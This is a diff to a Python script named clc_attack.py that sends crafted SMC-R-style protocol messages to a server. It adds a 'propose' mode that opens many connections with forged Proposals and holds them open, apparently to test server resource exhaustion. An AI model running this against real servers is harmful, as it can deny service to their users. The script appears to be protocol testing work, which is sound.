@@ -8,6 +8,10 @@ Exits 0 if the server ended the TCP connection (or, for `decline`, went on in pl
        clc_attack.py ADDRESS PORT confirm GID-ADDRESS MAC
 Makes a first contact up to the Confirm, with that IPv4 address and MAC for its RNIC. Writes "sent", and exits 0
 when the server says or ends something.
+
+       clc_attack.py ADDRESS PORT propose COUNT
+Makes so many connections with a sound Proposal each, all from different instances, and goes no further. Writes
+"N accepted, M declined" when each has its answer, and holds them until its input ends.
 """
 import socket
 import struct
@@ -43,6 +47,29 @@ ATTACKS = {
 }
 
 
+def promised(addr, port):
+    sock = socket.socket()
+    sock.setsockopt(SOL_SMCR, SO_CLAIM, 1)
+    sock.connect((addr, port))
+    if sock.getsockopt(SOL_SMCR, SO_NEGOTIATED) != 1:
+        sys.exit("the option was not negotiated")
+    return sock
+
+
+def propose(addr, port, count):
+    socks, answers = [], []
+    for number in range(count):
+        sock = promised(addr, port)
+        who = b"\x07" + bytes([number]) + bytes(6) + bytes(16) + b"\x02" + bytes(5)
+        sock.sendall(message(1, who + struct.pack(">H", 0) + socket.inet_aton(addr)[:3] + bytes([0, 24, 0, 0, 0])))
+        socks.append(sock)
+    for sock in socks:
+        sock.settimeout(60)
+        answers.append(sock.recv(200)[4])
+    print(f"{answers.count(2)} accepted, {answers.count(4)} declined", flush=True)
+    sys.stdin.read()
+
+
 def first_contact(sock, address, mac):
     gid = bytes(10) + b"\xff\xff" + socket.inet_aton(address)
     who = bytes([2, 1]) + bytes(6) + gid + bytes.fromhex(mac.replace(":", ""))
@@ -63,11 +90,10 @@ def first_contact(sock, address, mac):
 
 def main():
     addr, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
-    sock = socket.socket()
-    sock.setsockopt(SOL_SMCR, SO_CLAIM, 1)
-    sock.connect((addr, port))
-    if sock.getsockopt(SOL_SMCR, SO_NEGOTIATED) != 1:
-        sys.exit("the option was not negotiated")
+    if attack == "propose":
+        propose(addr, port, int(sys.argv[4]))
+        sys.exit(0)
+    sock = promised(addr, port)
     if attack == "confirm":
         first_contact(sock, *sys.argv[4:6])
         sys.exit(0)
